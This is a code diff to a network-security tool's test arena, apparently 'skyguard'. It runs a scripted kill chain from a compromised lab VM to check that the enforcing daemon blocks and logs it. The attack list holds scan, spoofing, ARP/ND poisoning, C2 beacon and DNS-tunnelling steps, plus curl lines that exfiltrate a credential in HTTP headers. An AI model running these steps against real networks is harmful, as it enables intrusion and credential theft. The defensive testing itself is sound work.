@@ -31,23 +31,81 @@ from dataclasses import dataclass, field
 from pathlib import Path
 
 from skyguard import config
-from skyguard.demo import PLACEHOLDER, Demo, echo_server, vmtool
+from skyguard.demo import Demo, echo_server, vmtool
 from skyguard.errors import SkyguardError
+from skyguard.lab import addressing as plan
+from skyguard.policy.model import Policy, Workload
+from skyguard.policy.parse import load_policy
 from skyguard.vmtools import toolbox
 
-ATTACKER = "agent1"
-ATTACKER_ZONE = "sandbox"
+# The roles the attacks are written for, by workload name. Everything else about them (addresses,
+# MACs, interfaces, zones, the placeholder the holder is given) is read from the policy the arena
+# enforces (Cast), never copied here: a policy that readdresses them moves the attacks with it.
+ATTACKER = "agent1"  # the compromised VM
+DIRECTORY = "dc1"  # the crown jewel the attacker moves toward
+RADIUS = "radius1"  # another target; also runs the legitimate session to the directory
+HOLDER = "sdnctl1"  # holds a credential placeholder (exfiltration steps)
 MARKER = toolbox.MARK  # carried by every crafted payload, so sniffers can tell attack from noise
-# Lab addresses of policies/keysystems.yaml (the policy the arena enforces).
-ADDR = {"radius1": ("10.10.1.2", "fd00:10:1::2"), "tacacs1": ("10.10.1.3", "fd00:10:1::3"),
-        "dc1": ("10.10.2.2", "fd00:10:2::2"), "dc2": ("10.10.2.3", "fd00:10:2::3"),
-        "sdnctl1": ("10.10.3.2", "fd00:10:3::2"), "vfw1": ("10.10.4.2", "fd00:10:4::2"),
-        "agent1": ("10.10.5.2", "fd00:10:5::2")}
-MAC = {"dc1": "02:00:00:00:02:02", "radius1": "02:00:00:00:01:02", "agent1": "02:00:00:00:05:02"}
-GATEWAY_V4 = "169.254.1.1"
 # Listeners the chain aims at inside the target VMs (a real service answering, if reached).
-TARGET_PORTS = {"dc1": (22, 135, 389, 445), "radius1": (22,)}
+TARGET_PORTS = {DIRECTORY: (22, 135, 389, 445), RADIUS: (22,)}
 LEGIT_PORT = 389  # radius1 -> dc1 LDAP: the legitimate session that must not notice anything
+C2_V4 = "198.51.100.99"  # in the lab internet, named by no rule
+
+
+@dataclass(frozen=True)
+class Cast:
+    """The workloads the attacks name, as the policy the arena enforces defines them. A policy
+    that drops one of the roles, or leaves it without an IPv4 or IPv6 address, fails here with
+    the role and the policy file named, instead of aiming the attacks at stale addresses."""
+
+    policy: Policy
+
+    def workload(self, name: str) -> Workload:
+        found = self.policy.workload(name)
+        if found is None:
+            raise SkyguardError(f"the attack arena needs a workload {name!r}; {self.policy.source} has none")
+        return found
+
+    def address(self, name: str, version: int) -> str:
+        found = next((a for a in self.workload(name).addresses if a.version == version), None)
+        if found is None:
+            raise SkyguardError(f"the attack arena needs an IPv{version} address for {name!r} in "
+                                f"{self.policy.source}")
+        return str(found)
+
+    def v4(self, name: str) -> str:
+        return self.address(name, 4)
+
+    def v6(self, name: str) -> str:
+        return self.address(name, 6)
+
+    @property
+    def attacker(self) -> Workload:
+        return self.workload(ATTACKER)
+
+    def bystanders(self) -> list[str]:
+        """Every workload but the attacker: where sniffers listen for what gets through."""
+        return [w.name for w in self.policy.workloads() if w.name != ATTACKER]
+
+    def zone_heads(self) -> list[str]:
+        """The first workload of every zone but the attacker's: what a scan of the other zones hits."""
+        return [z.workloads[0].name for z in self.policy.zones.values()
+                if z.name != self.attacker.zone and z.workloads]
+
+    @property
+    def placeholder(self) -> str:
+        """The placeholder the policy gives HOLDER's zone: all HOLDER ever knows of the secret."""
+        zone = self.workload(HOLDER).zone
+        found = next((c.placeholder for c in self.policy.credentials if zone in c.zones), None)
+        if found is None:
+            raise SkyguardError(f"the attack arena needs a credential for zone {zone!r} ({HOLDER}) in "
+                                f"{self.policy.source}")
+        return found
+
+
+def read_cast(policy_path: str | Path | None = None) -> Cast:
+    """The cast of the policy at `policy_path` (default: the policy `skyguard demo` and the lab use)."""
+    return Cast(load_policy(config.DEFAULT_POLICY if policy_path is None else policy_path))
 
 
 @dataclass
@@ -77,37 +135,41 @@ class Attack:
                 and logged_ok and all(self.counted.get(r, 0) > 0 for r in self.reasons))
 
 
-def kill_chain() -> list[Attack]:
-    others_v4 = [ADDR[v][0] for v in ("radius1", "dc1", "sdnctl1", "vfw1")]
-    others_v6 = [ADDR[v][1] for v in ("radius1", "dc1", "sdnctl1", "vfw1")]
-    dc1_v4, dc1_v6 = ADDR["dc1"]
+def kill_chain(cast: Cast | None = None) -> list[Attack]:
+    """The chain against the workloads of `cast` (default: read from the default policy)."""
+    cast = read_cast() if cast is None else cast
+    others_v4 = [cast.v4(v) for v in cast.zone_heads()]
+    others_v6 = [cast.v6(v) for v in cast.zone_heads()]
+    dc1_v4, dc1_v6 = cast.v4(DIRECTORY), cast.v6(DIRECTORY)
+    radius_v4, radius_v6 = cast.v4(RADIUS), cast.v6(RADIUS)
+    dns_v4, placeholder = str(plan.DNS_SERVER_V4), cast.placeholder
     return [
         Attack("recon", "TCP scan of the other zones (IPv4)", ["tcp", *others_v4, "--", "22", "88", "135", "389",
                                                                 "443", "445", "636", "830", "3389", "5985"],
                ("policy_deny",)),
         Attack("recon", "TCP scan of the other zones (IPv6)", ["tcp", *others_v6, "--", "22", "135", "389", "445"],
                ("policy_deny",)),
-        Attack("recon", "UDP scan of the other zones", ["udp", *others_v4, others_v6[1], "--", "88", "123", "137",
+        Attack("recon", "UDP scan of the other zones", ["udp", *others_v4, dc1_v6, "--", "88", "123", "137",
                                                          "161", "389", "500", "1812"], ("policy_deny",)),
         Attack("lateral", "SSH to the directory", ["tcp", dc1_v4, dc1_v6, "--", "22"], ("policy_deny",)),
         Attack("lateral", "SMB to the directory", ["tcp", dc1_v4, dc1_v6, "--", "445"], ("policy_deny",)),
         Attack("lateral", "LDAP to the directory", ["tcp", dc1_v4, dc1_v6, "--", "389"], ("policy_deny",)),
         Attack("lateral", "MS-RPC to the directory", ["tcp", dc1_v4, "--", "135"], ("policy_deny",)),
-        Attack("lateral", "SSH to the RADIUS server", ["tcp", ADDR["radius1"][0], "--", "22"], ("policy_deny",)),
+        Attack("lateral", "SSH to the RADIUS server", ["tcp", radius_v4, "--", "22"], ("policy_deny",)),
         Attack("spoofing", "frames with the directory's MAC and IP toward RADIUS",
-               ["spoof-ip-mac", MAC["dc1"], dc1_v4, ADDR["radius1"][0], "1812"], ("spoof_mac",)),
+               ["spoof-ip-mac", cast.workload(DIRECTORY).mac, dc1_v4, radius_v4, "1812"], ("spoof_mac",)),
         Attack("spoofing", "the RADIUS server's IPv4 address with its own MAC",
-               ["spoof-ip", ADDR["radius1"][0], dc1_v4, "389"], ("spoof_ip",)),
+               ["spoof-ip", radius_v4, dc1_v4, "389"], ("spoof_ip",)),
         Attack("spoofing", "the RADIUS server's IPv6 address with its own MAC",
-               ["spoof-ip", ADDR["radius1"][1], dc1_v6, "389"], ("spoof_ip",)),
+               ["spoof-ip", radius_v6, dc1_v6, "389"], ("spoof_ip",)),
         Attack("arp", "gratuitous ARP claiming the gateway and the directory",
-               ["arp-poison", GATEWAY_V4, dc1_v4], ("arp_spoof",), poisoned=[(4, dc1_v4)]),
+               ["arp-poison", str(plan.GATEWAY_V4), dc1_v4], ("arp_spoof",), poisoned=[(4, dc1_v4)]),
         Attack("nd", "unsolicited neighbour advertisements for the directory's IPv6 address",
                ["nd-poison", dc1_v6], ("nd_spoof",), poisoned=[(6, dc1_v6)]),
         Attack("ra", "rogue router advertisement (a default route and a prefix)", ["rogue-ra"], ("nd_forbidden",)),
-        Attack("c2", "C2 beacon to an unlisted address (every 0.2 s)", ["beacon", "198.51.100.99", "8443", "5", "0.2"],
+        Attack("c2", "C2 beacon to an unlisted address (every 0.2 s)", ["beacon", C2_V4, "8443", "5", "0.2"],
                ("no_rule",)),
-        Attack("c2", "C2 over UDP to an unlisted address", ["udp", "198.51.100.99", "--", "4444", "443"], ("no_rule",)),
+        Attack("c2", "C2 over UDP to an unlisted address", ["udp", C2_V4, "--", "4444", "443"], ("no_rule",)),
         Attack("internet", "hard-coded internet IPs (HTTP, HTTPS)", ["tcp", "192.0.2.80", "2001:db8::80", "203.0.113.66",
                                                                     "--", "80", "443"], ("no_rule",)),
         Attack("dns-bypass", "DNS over TLS to an unlisted resolver", ["tcp", "198.51.100.53", "2001:db8::853", "--", "853"],
@@ -120,13 +182,13 @@ def kill_chain() -> list[Attack]:
         Attack("dns-bypass", "DNS over HTTPS to an unlisted resolver address", ["tcp", "198.51.100.53", "--", "443"],
                ("no_rule",)),
         Attack("dns-tunnel", "DNS tunnelling: 40 random labels under an allowed domain",
-               ["dns", "192.0.2.53", "udp", "--tunnel", "files.pythonhosted.test"], (), logged="dns"),
+               ["dns", dns_v4, "udp", "--tunnel", "files.pythonhosted.test"], (), logged="dns"),
         Attack("exfiltration", "sdnctl1 sends its placeholder to another allowed host",
-               ["curl", "--cacert", "{ca}", "-H", f"Authorization: Bearer {PLACEHOLDER}", "https://deb.debian.test/"],
-               (), vm="sdnctl1", logged="credential", leaks=("placeholder", "secret")),
+               ["curl", "--cacert", "{ca}", "-H", f"Authorization: Bearer {placeholder}", "https://deb.debian.test/"],
+               (), vm=HOLDER, logged="credential", leaks=("placeholder", "secret")),
         Attack("exfiltration", "sdnctl1 sends the real secret over allowed HTTPS to an allowed host",
                ["curl", "--cacert", "{ca}", "-H", "X-Debug: {secret}", "https://api.github.test/"],
-               (), vm="sdnctl1", logged="credential", leaks=("placeholder", "secret")),
+               (), vm=HOLDER, logged="credential", leaks=("placeholder", "secret")),
     ]
 
 
@@ -149,8 +211,9 @@ EVASION_CASES = {
 }
 
 
-def evasion_corpus() -> list[Attack]:
-    dc1_v4, dc1_v6 = ADDR["dc1"]
+def evasion_corpus(cast: Cast | None = None) -> list[Attack]:
+    cast = read_cast() if cast is None else cast
+    dc1_v4, dc1_v6 = cast.v4(DIRECTORY), cast.v6(DIRECTORY)
     out = [Attack("evasion", case, ["evasion", case, dc1_v4, dc1_v6, "22"], reasons)
            for case, reasons in EVASION_CASES.items()]
     out.append(Attack("evasion", "gso: UDP_SEGMENT super-packets", ["gso", dc1_v4, "445"], ("policy_deny",)))
@@ -165,14 +228,20 @@ NOT_YET_COVERED = [
 
 
 class Arena(Demo):
-    """The lab of policies/keysystems.yaml with the daemon in its host namespace and throwaway
-    state, run dir and pins; sniffers and the legitimate session on demand. Reuses Demo's daemon
-    start, control and teardown machinery."""
+    """The lab of a policy (default: policies/keysystems.yaml, as `skyguard demo`) with the daemon
+    in its host namespace and throwaway state, run dir and pins; sniffers and the legitimate
+    session on demand. The lab, the daemon and the attacks' cast read the same policy file.
+    Reuses Demo's daemon start, control and teardown machinery."""
 
-    def __init__(self, prefix: str | None = None, workdir: Path | None = None, console=None, progress=None):
+    def __init__(self, prefix: str | None = None, workdir: Path | None = None, console=None, progress=None,
+                 policy_path: str | Path | None = None):
         super().__init__(console=console)
+        self.policy_path = Path(config.DEFAULT_POLICY if policy_path is None else policy_path)
+        self.cast = read_cast(self.policy_path)  # a policy without the roles fails here, before any lab
         if workdir is not None:
+            self.workdir.rmdir()  # Demo's own (still empty) temporary folder: this one is used instead
             self.workdir = Path(workdir)
+            self.ca_file = self.workdir / "skyguard-ca.pem"
             self.env.update(SKYGUARD_STATE_DIR=str(self.workdir / "state"), SKYGUARD_RUN_DIR=str(self.workdir / "run"))
         self.prefix = config.LAB_PREFIX if prefix is None else prefix
         self.env["SKYGUARD_PIN_DIR"] = str(config.PIN_DIR.parent / f"skyguard-arena-{os.getpid()}")
@@ -184,7 +253,7 @@ class Arena(Demo):
     def up(self) -> None:
         from skyguard.lab import Lab
 
-        self.lab = Lab(policy_path=config.DEFAULT_POLICY, prefix=self.prefix, lab_dir=self.workdir / "lab",
+        self.lab = Lab(policy_path=self.policy_path, prefix=self.prefix, lab_dir=self.workdir / "lab",
                        progress=self.progress)
         self.lab.up()
         self.start_daemon()
@@ -207,7 +276,7 @@ class Arena(Demo):
         if not self.real_token:
             self.provision_secrets()  # the sealed store survives restarts (it is in the state dir)
         self.daemon = self.lab.popen(
-            "host", [sys.executable, "-m", "skyguard.cli.main", "up", "--policy", str(config.DEFAULT_POLICY),
+            "host", [sys.executable, "-m", "skyguard.cli.main", "up", "--policy", str(self.policy_path),
                      "--metrics", "off", "--upstream-ca", str(self.lab.ca_cert)], lab_resolver=False,
             env=self.env, stdout=open(log_path, "a"), stderr=subprocess.STDOUT)
         deadline = time.monotonic() + 120
@@ -231,9 +300,12 @@ class Arena(Demo):
         return self.skyguard("log", "verify")
 
     # ---- observers ----------------------------------------------------------------------------
-    def start_sniffers(self, members=("radius1", "tacacs1", "dc1", "dc2", "sdnctl1", "vfw1", "internet")) -> None:
-        for name in members:
-            p = self.lab.popen(name, vmtool("sniff", *ADDR[ATTACKER], MAC[ATTACKER], MARKER.decode()),
+    def start_sniffers(self, members=None) -> None:
+        """Sniffers for the attacker's frames in `members` (default: every other VM and the internet)."""
+        attacker = self.cast.attacker
+        for name in [*self.cast.bystanders(), "internet"] if members is None else members:
+            p = self.lab.popen(name, vmtool("sniff", self.cast.v4(ATTACKER), self.cast.v6(ATTACKER), attacker.mac,
+                                            MARKER.decode()),
                                lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
             assert p.stdout.readline().strip() == "ready"
             self.sniffers[name] = p
@@ -252,7 +324,7 @@ class Arena(Demo):
         return out
 
     def start_legit(self) -> subprocess.Popen:
-        p = self.lab.popen("radius1", vmtool("legit", ADDR["dc1"][0], str(LEGIT_PORT)),
+        p = self.lab.popen(RADIUS, vmtool("legit", self.cast.v4(DIRECTORY), str(LEGIT_PORT)),
                            lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
         line = p.stdout.readline().strip()
         if line != "ready":
@@ -268,7 +340,7 @@ class Arena(Demo):
     def sandbox_drops(self) -> dict[str, int]:
         counters = self.control("status")["counters"]
         return {d["reason"]: d["packets"] for d in counters["drops"]
-                if d["zone"] == ATTACKER_ZONE and d["direction"] == "egress"}
+                if d["zone"] == self.cast.attacker.zone and d["direction"] == "egress"}
 
     def interface_mac(self, member: str, ifname: str) -> str:
         """MAC of `ifname` in lab member `member` (ip, not /sys: nsenter keeps the caller's sysfs)."""
@@ -294,7 +366,7 @@ class Arena(Demo):
         proof that the sniffers would see attack traffic if any got through."""
         self.start_sniffers(members=("internet",))
         try:
-            self.lab.exec(ATTACKER, vmtool("toolbox", "udp", "192.0.2.10", "--", "514", "514", "514"),
+            self.lab.exec(ATTACKER, vmtool("toolbox", "udp", str(plan.SYSLOG_COLLECTOR_V4), "--", "514", "514", "514"),
                           lab_resolver=False, capture_output=True)
             time.sleep(0.3)
         finally:
@@ -306,8 +378,8 @@ class Arena(Demo):
     def play(self, attacks: list[Attack] | None = None, on_step=None) -> dict:  # type: ignore[override]
         """Run every attack from agent1 with sniffers everywhere else and the legitimate session
         running. Returns {"attacks": [...], "legit": {"ok", "failed"}, "sniffed": {...}}."""
-        attacks = kill_chain() if attacks is None else attacks
-        gateway_mac = self.interface_mac("host", "sg-agent1")
+        attacks = kill_chain(self.cast) if attacks is None else attacks
+        gateway_mac = self.interface_mac("host", self.cast.attacker.interface)
         self.start_sniffers()
         legit = self.start_legit()
         try:
@@ -332,10 +404,10 @@ class Arena(Demo):
                         str(r.get("verdict") or r.get("result")) for r in rs))
                 if attack.leaks:
                     fresh = self._lab_requests()[len(requests_before):]
-                    needles = [self.real_token if w == "secret" else PLACEHOLDER for w in attack.leaks]
+                    needles = [self.real_token if w == "secret" else self.cast.placeholder for w in attack.leaks]
                     attack.leaked = sum(1 for line in fresh if any(n and n in line for n in needles))
                 for family, address in attack.poisoned:
-                    if MAC[ATTACKER] in self.host_neighbour_macs(family, address):
+                    if self.cast.attacker.mac in self.host_neighbour_macs(family, address):
                         attack.neighbour_poisoned.append(address)
                 if on_step:
                     on_step(attack)
@@ -355,10 +427,10 @@ def crash_under_load(arena: Arena, crashes: int, on_crash=None) -> dict:
     keeps its LDAP session to dc1; restart it after each kill and verify the signed log.
     Returns {"crashes", "log_verify_failures": [...], "denied_dropped": n, "delivered": n,
     "legit": {"ok", "failed"}}: the goal is delivered == 0, failed == 0, no verify failure."""
-    arena.start_sniffers(members=("dc1",))
+    arena.start_sniffers(members=(DIRECTORY,))
     legit = arena.start_legit()
     before = arena.sandbox_drops().get("policy_deny", 0)
-    flood = arena.lab.popen(ATTACKER, vmtool("toolbox", "flood", ADDR["dc1"][0], "445", "86400"),
+    flood = arena.lab.popen(ATTACKER, vmtool("toolbox", "flood", arena.cast.v4(DIRECTORY), "445", "86400"),
                             lab_resolver=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     failures = []
     try:
@@ -380,7 +452,7 @@ def crash_under_load(arena: Arena, crashes: int, on_crash=None) -> dict:
         sniffed = arena.stop_sniffers()
     return {"crashes": crashes, "log_verify_failures": failures,
             "denied_dropped": arena.sandbox_drops().get("policy_deny", 0) - before,
-            "delivered": sniffed["dc1"]["frames"], "legit": legit_result}
+            "delivered": sniffed[DIRECTORY]["frames"], "legit": legit_result}
 
 
 def run_attack_demo(console=None) -> int:
@@ -392,9 +464,9 @@ def run_attack_demo(console=None) -> int:
     arena = Arena(workdir=Path(tempfile.mkdtemp(prefix="skyguard-attack-")), console=console,
                   progress=lambda m: console.print(f"   [dim]{m}[/]"))
     try:
-        console.print("[bold]1. Building the lab and starting skyguard[/] with policies/keysystems.yaml")
+        console.print(f"[bold]1. Building the lab and starting skyguard[/] with {arena.policy_path.name}")
         arena.up()
-        console.print(f"[bold]2. Agent1 (zone {ATTACKER_ZONE}) is compromised.[/] Its kill chain, while radius1 "
+        console.print(f"[bold]2. {ATTACKER} (zone {arena.cast.attacker.zone}) is compromised.[/] Its kill chain, while radius1 "
                       f"keeps an LDAP session to dc1:")
 
         def on_step(a: Attack) -> None:
